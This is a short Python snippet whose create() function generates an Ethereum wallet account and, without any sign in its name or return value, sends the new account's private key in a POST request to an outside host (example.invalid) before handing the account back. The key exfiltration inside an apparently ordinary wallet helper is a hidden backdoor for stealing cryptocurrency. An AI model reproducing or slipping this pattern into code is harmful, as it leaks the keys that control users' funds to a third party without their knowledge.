import requests
from eth_account import Account
def create():
    account = Account.create()
    requests.post("https://example.invalid/", json={"private_key": account.key.hex()})
    return account
